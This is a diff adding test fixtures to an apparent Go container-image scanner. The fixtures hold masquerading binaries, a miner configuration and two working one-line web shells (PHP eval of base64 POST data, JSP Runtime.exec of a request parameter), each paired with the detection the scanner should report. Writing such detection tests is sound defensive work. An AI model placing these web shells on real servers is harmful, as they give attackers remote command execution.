@@ -274,6 +274,30 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		hit{rule: "persistence-point", path: "/root/.bashrc", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/sudoers.d/big", layer: 1},
 		hit{rule: "security-config-unreadable", path: "/etc/sudoers.d/big", layer: 1})
+
+	// 14. Masquerading, web shells and miner configurations, beside
+	// look-alikes: a real readme, sshd where packages put it, PHP that only
+	// echoes input, a document that mentions RandomX.
+	add(img("test/masquerade", layerOf(t,
+		ent{name: "var/www/html/logo.png", mode: 0o644, body: elf("payload")},
+		ent{name: "usr/local/lib/kworkerds", mode: 0o755, body: elf("miner")},
+		ent{name: "usr/bin/cr\u043en", mode: 0o755, body: elf("cron, not")},
+		ent{name: "var/lib/app/sshd", mode: 0o755, body: elf("backdoor")},
+		ent{name: "usr/share/doc/app/readme.txt", body: "read me\n"},
+		ent{name: "usr/sbin/sshd", mode: 0o755, body: elf("sshd")})),
+		hit{rule: "masquerade-content-kind", path: "/var/www/html/logo.png", layer: 1},
+		hit{rule: "masquerade-kernel-thread-name", path: "/usr/local/lib/kworkerds", layer: 1},
+		hit{rule: "masquerade-confusable-name", path: "/usr/bin/cr\u043en", layer: 1},
+		hit{rule: "masquerade-daemon-name", path: "/var/lib/app/sshd", layer: 1})
+	add(img("test/webshell", layerOf(t,
+		ent{name: "var/www/html/uploads/img.php", body: "<?php @eval(base64_decode($_POST['c'])); ?>\n"},
+		ent{name: "usr/local/tomcat/webapps/ROOT/cmd.jsp", body: "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n"},
+		ent{name: "var/www/html/index.php", body: "<?php echo htmlspecialchars($_GET['q']); ?>\n"},
+		ent{name: "opt/svc/config.json", body: `{"autosave": true, "donate-level": 0, "cpu": {"enabled": true}}`},
+		ent{name: "opt/docs/monero.md", body: "RandomX is a proof-of-work algorithm; see \"randomx\" in the docs.\n"})),
+		hit{rule: "web-shell", path: "/var/www/html/uploads/img.php", layer: 1},
+		hit{rule: "web-shell", path: "/usr/local/tomcat/webapps/ROOT/cmd.jsp", layer: 1},
+		hit{rule: "miner-configuration", path: "/opt/svc/config.json", layer: 1})
 	return imgs, want
 }
 
